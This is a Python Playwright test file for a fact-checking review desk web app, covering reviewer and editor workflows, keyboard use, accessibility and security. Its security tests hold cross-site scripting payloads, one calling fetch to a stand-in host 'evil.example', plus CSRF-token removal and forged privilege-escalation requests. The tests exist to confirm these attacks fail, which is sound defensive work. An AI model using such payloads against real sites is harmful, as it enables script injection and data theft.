"""The review desk in Chromium: what reviewers and editors do all day, and what must never happen."""

from __future__ import annotations

import os
import re
from pathlib import Path

from sqlmodel import Session, select

from factcheck.models import Note, Ticket
from tests.browser.conftest import axe_violations, ingest, log_in, log_out

ARTICLE = """Harbor authority reports record cargo

The Port of Marlow handled 2.1 million containers in 2024, up 9 percent from 2023, the Marlow Harbor Authority said on Tuesday.

Harbor director Amina Okafor said the authority would spend $240 million on two new cranes by 2027.

According to the state transport department, truck traffic near the port rose 14 percent in 2024.

"We moved more cargo last year than in any year since the port opened in 1961," Okafor said.
"""


def submit(page, button) -> None:
    """Click a form's button and wait for the page the server answers with (after its redirect)."""
    with page.expect_navigation(wait_until="load"):
        button.click()
    assert page.locator("h1").count(), page.content()[:2000]


def main_text(page) -> str:
    return page.locator("main").inner_text()


def first_ticket_id(desk, article_id: int) -> int:
    with Session(desk.engine) as s:
        return s.exec(select(Ticket.id).where(Ticket.article_id == article_id).order_by(Ticket.position)).first()


def test_a_reviewer_works_the_drafts_and_an_editor_sets_the_verdict(page, desk):
    log_in(page, desk.user("rita", "reviewer"))
    article_id = ingest(page, ARTICLE, "Harbor cargo record")
    assert page.locator("a.hl").count() >= 3, "claims are highlighted in the article"
    page.locator("ol.claims a").first.click()
    page.wait_for_url("**/tickets/*")
    ticket_id = int(page.url.rsplit("/", 1)[1])
    assert page.locator("blockquote.context mark").inner_text()
    drafts = page.locator("article.draft")
    assert drafts.count() >= 3
    assert "Suggested by the offline rule-based engine" in drafts.first.inner_text()

    # Approve the first suggestion, edit the second, reject the third.
    ids = [drafts.nth(i).get_attribute("id") for i in range(3)]
    submit(page, page.locator(f"#{ids[0]}").get_by_role("button", name="Approve"))
    assert "Approved by rita" in page.locator(f"#{ids[0]}").inner_text()
    second = page.locator(f"#{ids[1]}")
    second.locator("summary", has_text="Edit").click()
    second.get_by_label("Text").fill("Did the Port of Marlow handle 2.1 million containers in 2024?")
    submit(page, second.get_by_role("button", name="Save edit"))
    assert "Edited and approved by rita" in page.locator(f"#{ids[1]}").inner_text()
    submit(page, page.locator(f"#{ids[2]}").get_by_role("button", name="Reject"))
    assert "Rejected by rita" in page.locator(f"#{ids[2]}").inner_text()

    # A reviewer proposes; she is offered no verdict of her own.
    assert page.get_by_role("button", name="Save verdict").count() == 0
    page.get_by_label("corroborated").check()
    page.locator("#rationale").fill("The authority's annual report lists 2.1 million containers.")
    submit(page, page.get_by_role("button", name="Propose to an editor"))
    assert "Proposed corroborated" in main_text(page), main_text(page)[:1500]
    assert "rita proposes corroborated" in page.locator("#verdict-summary").inner_text()
    log_out(page)

    log_in(page, desk.user("ed", "editor"))
    assert "rita proposes corroborated" in page.locator("table.queue").inner_text()
    page.goto(f"/tickets/{ticket_id}")
    assert page.locator("#rationale").input_value().startswith("The authority's annual report")
    submit(page, page.get_by_role("button", name="Save verdict"))
    assert page.locator("#verdict-summary .badge").inner_text() == "corroborated"
    history = page.locator("ol.history").inner_text()
    for action in (
        "made this ticket",
        "approved a draft",
        "edited and approved a draft",
        "rejected a draft",
        "proposed a verdict",
        "marked it corroborated",
    ):
        assert action in history, action

    page.goto("/exports")
    page.get_by_label("Format").select_option("md")
    page.get_by_label("Articles (none selected: all)").select_option(str(article_id))
    with page.expect_download() as download:
        page.get_by_role("button", name="Download").click()
    report = Path(download.value.path()).read_text(encoding="utf-8")
    assert "Corroborated" in report and "annual report lists 2.1 million" in report
    assert "Did the Port of Marlow handle 2.1 million containers in 2024?" in report

    shots = os.environ.get("FACTCHECK_SCREENSHOTS")
    if shots:  # README pictures: FACTCHECK_SCREENSHOTS=docs/screenshots scripts/test tests/browser
        page.goto("/")
        page.screenshot(path=f"{shots}/queue.png")
        page.goto(f"/tickets/{ticket_id}")
        page.screenshot(path=f"{shots}/ticket.png", full_page=True)
    assert page.watch.dialogs == [] and page.watch.foreign_requests == []


def test_keyboard_walks_the_queue_and_reviews_a_draft(page, desk):
    log_in(page, desk.user("kim", "reviewer"))
    ingest(page, ARTICLE.replace("Marlow", "Easton"), "Easton cargo record")
    page.goto("/?sort=newest")
    page.keyboard.press("j")
    page.keyboard.press("o")
    page.wait_for_url("**/tickets/*")
    first = page.locator("article.draft.status-proposed").first.get_attribute("id")
    with page.expect_navigation(wait_until="load"):
        page.keyboard.press("a")
    assert "Approved by kim" in page.locator(f"#{first}").inner_text()
    before = page.url
    page.keyboard.press("n")
    page.wait_for_url(lambda url: url != before)
    assert re.search(r"/tickets/\d+$", page.url)


HOSTILE = """Council pays for roads <img src=x onerror="alert('article')">

The city spent $4 million on road repairs in 2024, according to the public works office <script>alert('script')</script>.

Mayor Dana Whitfield said 30 roads were repaired in 2024 <a href="javascript:alert('link')">details</a>.
"""


def test_hostile_article_and_draft_text_execute_nothing(page, desk):
    log_in(page, desk.user("hana", "reviewer"))
    article_id = ingest(page, HOSTILE, "Roads <b>and</b> <img src=x onerror=alert(1)>")
    assert page.locator("img").count() == 0 and page.locator("main script").count() == 0
    ticket_id = first_ticket_id(desk, article_id)
    page.goto(f"/tickets/{ticket_id}")
    page.locator("summary", has_text="Add your own question").click()
    payload = "<img src=x onerror=\"fetch('http://evil.example/q')\"> was it <script>alert('q')</script>?"
    page.get_by_label("Question", exact=True).fill(payload)
    submit(page, page.get_by_role("button", name="Add question"))
    assert (
        payload in page.locator('section[aria-labelledby="q-h"] article.draft').last.inner_text()
    )  # shown as text, not markup
    page.locator("summary", has_text="Add your own source").click()
    page.get_by_label("Source", exact=True).fill("A link that runs script")
    page.get_by_label("Link (http or https)").evaluate("el => { el.type = 'text'; }")  # past the browser's own check
    page.get_by_label("Link (http or https)").fill("javascript:alert('source')")
    page.get_by_role("button", name="Add source").click()
    assert "The link must be a complete http:// or https:// address" in page.get_by_role("alert").inner_text()
    for path in (f"/articles/{article_id}", f"/tickets/{ticket_id}", "/"):
        page.goto(path)
        assert page.locator("main img, main iframe").count() == 0
        assert page.locator('a[href^="javascript:"]').count() == 0
    assert page.evaluate("() => document.querySelectorAll('[onerror], [onclick]').length") == 0
    for link in page.locator('a[target="_blank"]').all():
        assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.watch.dialogs == [], page.watch.dialogs
    assert page.watch.foreign_requests == [], page.watch.foreign_requests


def test_the_content_security_policy_stops_inline_script(page, desk):
    log_in(page, desk.user("cora", "reviewer"))
    # Even markup that got into the page could not run: the header forbids inline script.
    page.evaluate("""() => {
        const s = document.createElement('script'); s.textContent = "alert('inline')"; document.body.appendChild(s);
        const i = document.createElement('img'); i.setAttribute('onerror', "alert('handler')"); i.src = 'x:';
        document.body.appendChild(i);
    }""")
    page.wait_for_timeout(300)
    assert page.watch.dialogs == []
    assert any("Content Security Policy" in e for e in page.watch.console_errors)


def test_a_form_posted_without_its_csrf_token_is_refused(page, desk):
    log_in(page, desk.user("nora", "reviewer"))
    article_id = ingest(page, ARTICLE.replace("Marlow", "Halden"), "Halden cargo record")
    ticket_id = first_ticket_id(desk, article_id)
    page.goto(f"/tickets/{ticket_id}")
    form = page.locator('form[action$="/notes"]')
    form.locator('input[name="csrf_token"]').evaluate("el => el.remove()")
    form.get_by_label("Note").fill("Forged note")
    submit(page, form.get_by_role("button", name="Add note"))
    assert "Not allowed" in page.locator("h1").inner_text()
    with Session(desk.engine) as s:
        assert s.exec(select(Note).where(Note.text == "Forged note")).first() is None


def test_a_reviewer_cannot_reach_editor_actions_by_url(page, desk):
    log_in(page, desk.user("ravi", "reviewer"))
    article_id = ingest(page, ARTICLE.replace("Marlow", "Corby"), "Corby cargo record")
    ticket_id = first_ticket_id(desk, article_id)
    assert page.get_by_role("link", name="Export").count() == 0
    response = page.goto("/exports/download?format=csv")
    assert response.status == 403 and "may not export" in page.get_by_role("alert").inner_text()
    page.goto(f"/tickets/{ticket_id}")
    token = page.locator('input[name="csrf_token"]').first.input_value()
    forged = page.request.post(
        f"/tickets/{ticket_id}/state",
        form={"csrf_token": token, "to": "disputed", "version": "1", "rationale": "Forged through the URL."},
    )
    assert forged.status == 403
    with Session(desk.engine) as s:
        assert s.get(Ticket, ticket_id).state == "unverified"


def test_main_pages_have_no_serious_accessibility_violations(page, desk):
    page.goto("/login")
    problems = {"/login": axe_violations(page)}
    log_in(page, desk.user("ella", "editor"))
    article_id = ingest(page, ARTICLE.replace("Marlow", "Penrith"), "Penrith cargo record")
    ticket_id = first_ticket_id(desk, article_id)
    for path in (
        "/",
        "/dashboard",
        "/articles",
        "/articles/new",
        f"/articles/{article_id}",
        f"/tickets/{ticket_id}",
        "/exports",
    ):
        page.goto(path)
        problems[path] = axe_violations(page)
    assert {p: v for p, v in problems.items() if v} == {}


def test_keyboard_triage_from_page_load_to_a_checked_ticket_with_no_mouse(page, desk):
    log_in(page, desk.user("lee", "reviewer"))
    ingest(page, ARTICLE.replace("Marlow", "Weston"), "Weston cargo record")
    page.goto("/?sort=newest")
    page.keyboard.press("Tab")  # the first stop is the skip link to the tickets
    assert page.evaluate("document.activeElement.textContent") == "Skip to the tickets"
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")  # into the table: the first row's checkbox
    assert page.evaluate("document.activeElement.type") == "checkbox"
    page.keyboard.press("j")  # a focused checkbox does not swallow the shortcuts
    page.keyboard.press("x")
    assert page.locator('table.queue input[name="ticket"]:checked').count() == 1
    page.keyboard.press("?")
    assert page.locator("#shortcuts").evaluate("d => d.open")
    assert "check it for the bulk bar" in page.locator("#shortcuts").inner_text()


def test_an_editor_decides_a_verdict_from_page_load_with_the_keyboard_alone(page, desk):
    """j to the ticket, o to open it, v to the verdict form, Space to choose, Tab to the rating and
    the rationale, Enter to save: no mouse anywhere."""
    log_in(page, desk.user("kira", "editor"))
    ingest(page, ARTICLE.replace("Marlow", "Norton"), "Norton cargo record")
    page.goto("/?sort=newest")
    page.keyboard.press("j")
    page.keyboard.press("o")
    page.wait_for_url(re.compile(r"/tickets/\d+(\?.*)?$"))
    page.keyboard.press("v")
    assert page.evaluate("document.activeElement.name") == "to"
    assert page.evaluate("document.activeElement.value") == "corroborated"
    page.keyboard.press("Space")  # chosen (the arrows would move to the next verdict)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.name") == "rating"
    page.keyboard.press("ArrowDown")  # the first rating of the scale
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.name") == "rationale"
    page.keyboard.type("The port authority's annual report confirms the figure.")
    page.keyboard.press("Tab")
    with page.expect_navigation(wait_until="load"):
        page.keyboard.press("Enter")
    summary = page.locator("#verdict-summary").inner_text()
    assert "Corroborated" in summary and "annual report confirms" in summary
